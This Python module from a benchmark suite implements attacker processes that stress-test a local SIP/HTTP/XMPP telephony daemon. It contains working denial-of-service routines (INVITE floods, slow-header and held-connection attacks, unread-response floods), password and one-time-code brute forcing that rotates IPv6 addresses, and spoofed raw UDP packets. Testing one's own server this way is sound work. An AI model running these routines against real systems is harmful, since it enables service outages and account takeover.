"""
The attackers of L{benchmarks.attacks}: each is a process that runs until it is killed.

C{python -m benchmarks.attackers NAME} attacks the daemon on the fixed ports of
L{benchmarks.attacks}, in the same network namespace.
"""

from __future__ import annotations

import itertools
import os
import re
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from threading import Thread

from benchmarks.daemon import DOMAIN, numberOf
from benchmarks.dialling import digest, register

SERVER, SERVER6 = "127.0.0.1", "fd00:5::1"
OWNER = 5
"""The account whose owner logs in."""

SIP, HTTP, XMPP = 5060, 8080, 5222
PHONES = 5
"""Phones that are attacked, on 127.0.0.10 and the addresses that follow."""

IPV6_FREEBIND = 78

METRICS = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
MENU = b"GET /info/menu.jsp HTTP/1.1\r\nHost: a\r\n\r\n"
CHUNKED = (
    b"POST /checkin HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    + b"1\r\na\r\n" * 16000
)
STREAM = (
    b"<?xml version='1.0'?><stream:stream xmlns='jabber:client' to='gigaset.net' "
    b"version='1.0' xmlns:stream='http://etherx.jabber.org/streams'>"
)


def stranger(index: int) -> str:
    """
    An IPv4 address of an attacker.
    """
    return f"127.0.{1 + index // 250}.{1 + index % 250}"


def neighbour(index: int, network: int = 0) -> str:
    """
    An IPv6 address of an attacker's /64.
    """
    return f"fd00:bad:0:{network:x}::{index + 1:x}"


def paced(rate: float) -> Iterator[int]:
    """
    Count without end, C{rate} a second.
    """
    begun = time.monotonic()
    for count in itertools.count():
        late = begun + count / rate - time.monotonic()
        if late > 0:
            time.sleep(late)
        yield count


def _family(source: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in source else socket.AF_INET


def datagrams(source: str) -> socket.socket:
    """
    A UDP socket on an address of the attacker, connected to the SIP port.
    """
    made = socket.socket(_family(source), socket.SOCK_DGRAM)
    made.bind((source, 0))
    made.connect((SERVER, SIP))
    made.settimeout(1.0)
    return made


def connection(source: str, port: int) -> socket.socket:
    """
    A TCP connection from an address of the attacker.

    @raise OSError: it was refused.
    """
    made = socket.socket(_family(source), socket.SOCK_STREAM)
    try:
        if ":" in source:
            made.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        made.settimeout(5.0)
        made.bind((source, 0))
        made.connect((SERVER6 if ":" in source else SERVER, port))
    except OSError:
        made.close()
        raise
    return made


def invite(serial: int) -> bytes:
    """
    Write an INVITE of 168 bytes without proof.
    """
    return (
        f"INVITE sip:{numberOf(0)}@{DOMAIN} SIP/2.0\r\nVia:SIP/2.0/UDP a;rport;branch="
        f"z9hG4bK{serial:08x}\r\nf:<sip:{numberOf(1)}@{DOMAIN}>;tag=1\r\nt:<sip:a>\r\n"
        f"i:{serial:08x}\r\nCSeq:1 INVITE\r\n\r\n"
    ).encode()


def spoofed(source: tuple[str, int], data: bytes) -> bytes:
    """
    Write an IPv4 packet to the SIP port that claims to be from C{source}; without
    a UDP checksum.
    """
    head = struct.pack("!HHHH", source[1], SIP, 8 + len(data), 0)
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(SERVER)
    size = 20 + len(head) + len(data)
    packet = struct.pack("!BBHHHBBH", 0x45, 0, size, 0, 0, 64, 17, 0)
    return packet + addresses + head + data


# HTTP


def _unread(data: bytes) -> None:
    """
    Send C{data} again and again on one connection, and read no answer.
    """
    peers = []
    for _ in paced(1.0):
        with suppress(OSError):
            peer = connection(stranger(0), HTTP)
            peer.settimeout(0.9)
            peers.append(peer)
            peer.sendall(data)


def _repeated(data: bytes, width: int = 8) -> None:
    """
    Send a request on each of C{width} connections as soon as the last is answered.
    """

    def one() -> None:
        while True:
            with suppress(OSError), connection(stranger(0), HTTP) as peer:
                while True:
                    peer.sendall(data)
                    if not peer.recv(65536):
                        break
            time.sleep(0.01)

    _together([one] * width)


def _together(acts: list[Callable[[], None]]) -> None:
    threads = [Thread(target=act, daemon=True) for act in acts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _held(port: int, addresses: list[str], each: int, data: bytes = b"") -> None:
    """
    Keep C{each} connections open from each address; open those again that the
    daemon closes.
    """
    peers: list[tuple[socket.socket, str]] = []
    missing = [address for address in addresses for _ in range(each)]
    for _ in paced(2.0):
        for address in missing:
            with suppress(OSError):
                peer = connection(address, port)
                if data:
                    peer.send(data)
                peer.setblocking(False)
                peers.append((peer, address))
        missing = [address for address in addresses for _ in range(each)]
        open_ = []
        for peer, address in peers:
            if _isOpen(peer):
                open_.append((peer, address))
                missing.remove(address)
            else:
                peer.close()
        peers = open_


def _isOpen(peer: socket.socket) -> bool:
    with suppress(BlockingIOError):
        try:
            while peer.recv(65536):
                pass
        except ConnectionError:
            pass
        return False
    return True


def _slowHeads() -> None:
    """
    Keep 1,024 requests incomplete, each with another byte a second.
    """
    peers: list[socket.socket] = []
    for _ in paced(1.0):
        with suppress(OSError):
            while len(peers) < 1024:
                peer = connection(stranger(0), HTTP)
                peer.send(b"GET / HTTP/1.1\r\nHost: a")
                peer.setblocking(False)
                peers.append(peer)
        for peer in peers[:]:
            try:
                peer.send(b"a")
                if not _isOpen(peer):
                    raise ConnectionError
            except OSError:
                peer.close()
                peers.remove(peer)


def _connects(data: bytes) -> None:
    """
    Open connections without a pause, send C{data} on each, and close it.
    """
    while True:
        with suppress(OSError), connection(stranger(0), HTTP) as peer:
            if data:
                peer.sendall(data)
                peer.recv(65536)


_CSRF = re.compile(rb'name="csrf" value="([^"]+)"')
_SEED = re.compile(rb"Set-Cookie: ([^;\r]+)", re.IGNORECASE)


def logIn(source: str, **fields: str) -> int:
    """
    Log in at C{/account/login} as a browser does.

    @return: the status.
    @raise OSError: no answer.
    """
    head = f"Host: {DOMAIN}\r\nConnection: close\r\n"
    page = fetch(source, f"GET /account/login HTTP/1.1\r\n{head}\r\n")
    csrf, seed = _CSRF.search(page), _SEED.search(page)
    if csrf is None or seed is None:
        return int(page[9:12] or 0)
    body = "&".join(f"{k}={v}" for k, v in {"csrf": csrf[1].decode(), **fields}.items())
    answer = fetch(
        source,
        f"POST /account/login HTTP/1.1\r\n{head}Cookie: {seed[1].decode()}\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {len(body)}\r\n\r\n{body}",
    )
    return int(answer[9:12] or 0)


def fetch(source: str, request: str) -> bytes:
    """
    Send a request on a connection of its own and read the answer.

    @raise OSError: there is none.
    """
    with connection(source, HTTP) as peer:
        peer.settimeout(2.0)
        peer.sendall(request.encode())
        answer = b""
        while data := peer.recv(65536):
            answer += data
    if not answer:
        raise ConnectionError
    return answer


def _lanes(guess: Callable[[int], object]) -> None:
    """
    Guess 60 times a second, eight guesses at a time.
    """

    def lane(first: int) -> None:
        for count in paced(7.5):
            with suppress(OSError):
                guess(count * 8 + first)

    _together([partial(lane, first) for first in range(8)])


def _codes() -> None:
    """
    Guess one-time codes, each from another address of one /64.
    """
    _lanes(lambda n: logIn(neighbour(n % 600), code=f"{n * 7919 % 10**8:08}"))


def _passwords() -> None:
    """
    Guess the owner's password, each time from another address of one /64.
    """
    owner = numberOf(OWNER)
    _lanes(lambda n: logIn(neighbour(n % 600), number=owner, password=f"x{n}"))


# SIP


def _flood(rate: float, sources: int) -> Iterator[int]:
    """
    Send INVITEs of strangers from C{sources} addresses, C{rate} a second in all.
    """
    peers = [datagrams(stranger(index)) for index in range(sources)]
    for peer in peers:
        peer.setblocking(False)
    for count in paced(rate):
        with suppress(OSError):
            peers[count % sources].send(invite(count))
        yield count


def _invites() -> None:
    for _ in _flood(2000.0, 16):
        pass


def _unreadSip() -> None:
    """
    Send requests without end on one TCP connection after the other, and read no
    answer.
    """
    text = (
        f"OPTIONS sip:{DOMAIN} SIP/2.0\r\nv:SIP/2.0/TCP a;branch=z9hG4bK1\r\n"
        f"f:<sip:1@{DOMAIN}>;tag=1\r\nt:<sip:a>\r\ni:1\r\nCSeq:1 OPTIONS\r\n"
        "Content-Length:0\r\n\r\n"
    )
    peers = []
    for _ in paced(1.0):
        with suppress(OSError):
            peer = connection(stranger(0), SIP)
            peer.settimeout(0.9)
            peers.append(peer)
            peer.sendall(text.encode() * 10000)


def _slowSip() -> None:
    """
    Keep messages incomplete on 64 connections from each of 64 addresses.
    """
    _held(
        SIP, [stranger(index) for index in range(64)], 64, b"OPTIONS sip:a SIP/2.0\r\n"
    )


def _stun() -> None:
    """
    Send 300 STUN requests a second from the address of each phone.
    """
    request = struct.pack("!HHI", 1, 0, 0x2112A442) + b"abcdefghijkl"
    for _, peer, _ in _besidePhones(300.0 * PHONES):
        with suppress(OSError):
            peer.send(request)


def _stanzas() -> None:
    """
    Send stanzas without end before the log-in on 64 XMPP streams, read no answer.
    """

    def one() -> None:
        while True:
            with suppress(OSError), connection(stranger(0), XMPP) as peer:
                peer.sendall(STREAM)
                while True:
                    peer.sendall(
                        b"<iq type='get' id='1'><ping xmlns='urn:xmpp:ping'/></iq>"
                    )
            time.sleep(0.01)

    _together([one] * 64)


def _closing() -> None:
    """
    Fill the transaction table, and open and close TCP connections all the while.
    """

    def close() -> None:
        for count in paced(150.0):
            with suppress(OSError), connection(stranger(count % 64), SIP) as peer:
                peer.send(b"\r\n\r\n")

    Thread(target=close, daemon=True).start()
    for _ in _flood(4000.0, 64):
        pass


_NONCE = re.compile(rb'nonce="([^"]+)"')


def _wrong(nonce: str) -> str:
    """
    Write an Authorization line for the first phone with a wrong response.
    """
    proof = digest(numberOf(0), nonce, 1)
    return re.sub('response="[^"]*', f'response="{"0" * 32}', proof)


def _nonceZero() -> None:
    """
    Send REGISTERs with C{nonce="0"} from the address of each phone.
    """
    for count, peer, place in _besidePhones(50.0):
        with suppress(OSError):
            peer.send(register(place, numberOf(0), count, False, _wrong("0")))


def _besidePhones(rate: float) -> Iterator[tuple[int, socket.socket, str]]:
    """
    Take the phones' addresses in turn, C{rate} a second in all.
    """
    peers = [datagrams(f"127.0.0.{10 + index}") for index in range(PHONES)]
    places = ["{}:{}".format(*peer.getsockname()) for peer in peers]
    for peer in peers:
        peer.setblocking(False)
    for count in paced(rate):
        yield count, peers[count % PHONES], places[count % PHONES]


def _nonceFetched() -> None:
    """
    The same with a nonce that the daemon sent to the attacker, who spoofs the
    phones' addresses.
    """
    own = datagrams(stranger(0))
    mine = "{}:{}".format(*own.getsockname())
    for count, peer, place in _besidePhones(50.0):
        with suppress(OSError):
            own.send(register(mine, numberOf(0), count, False, ""))
            nonce = _NONCE.search(own.recv(65536))
            if nonce is not None:
                wrong = _wrong(nonce[1].decode())
                peer.send(register(place, numberOf(0), count, False, wrong))


def _junk() -> None:
    """
    Send 200 datagrams of 20 bytes a second from the address of each phone.
    """
    for _, peer, _ in _besidePhones(200.0 * PHONES):
        with suppress(OSError):
            peer.send(b"\xa5" * 20)


def _junkFlow() -> None:
    """
    The same from the very ports that the phones have registered from.
    """
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ports = [int(word) for word in sys.argv[2:]]
    for count in paced(200.0 * len(ports)):
        at = count % len(ports)
        packet = spoofed((f"127.0.0.{10 + at}", ports[at]), b"\xa5" * 20)
        with suppress(OSError):
            raw.sendto(packet, (SERVER, 0))


def _guesses() -> None:
    """
    Guess a phone's password by REGISTER with fresh nonces, from one source.
    """
    peer = datagrams(stranger(0))
    place = "{}:{}".format(*peer.getsockname())
    nonce = ""
    for count in paced(60.0):
        with suppress(OSError):
            peer.send(register(place, numberOf(0), count, False, _wrong(nonce)))
            peer.settimeout(0.01)
            found = _NONCE.search(peer.recv(65536))
            nonce = found[1].decode() if found else nonce


def _silentSip() -> None:
    _held(SIP, [stranger(index) for index in range(64)], 64)


def _silentHttp() -> None:
    _held(HTTP, [stranger(0)], 1024)


def _silentXmpp() -> None:
    _held(XMPP, [stranger(index) for index in range(8)], 256, STREAM)


def _idle() -> None:
    select.select([], [], [])


ATTACKS: dict[str, Callable[[], None]] = {
    "none": _idle,
    "http-metrics-unread": lambda: _unread(METRICS * 2000),
    "http-menu-unread": lambda: _unread(MENU * 1450),
    "http-metrics-8": lambda: _repeated(METRICS),
    "http-menu-8": lambda: _repeated(MENU),
    "http-chunks": lambda: _repeated(CHUNKED, 4),
    "http-connects": lambda: _connects(b""),
    "http-bad": lambda: _connects(b"\0\r\n\r\n"),
    "http-silent": _silentHttp,
    "http-slow-heads": _slowHeads,
    "login-codes": _codes,
    "login-passwords": _passwords,
    "sip-invites": _invites,
    "sip-closing": _closing,
    "sip-nonce-0": _nonceZero,
    "sip-nonce-fetched": _nonceFetched,
    "sip-junk": _junk,
    "sip-junk-flow": _junkFlow,
    "sip-guesses": _guesses,
    "sip-silent": _silentSip,
    "sip-slow": _slowSip,
    "sip-unread": _unreadSip,
    "stun": _stun,
    "xmpp-silent": _silentXmpp,
    "xmpp-stanzas": _stanzas,
}


if __name__ == "__main__":
    # Attackers have machines of their own: they must not take the daemon's processor.
    os.nice(10)
    ATTACKS[sys.argv[1]]()
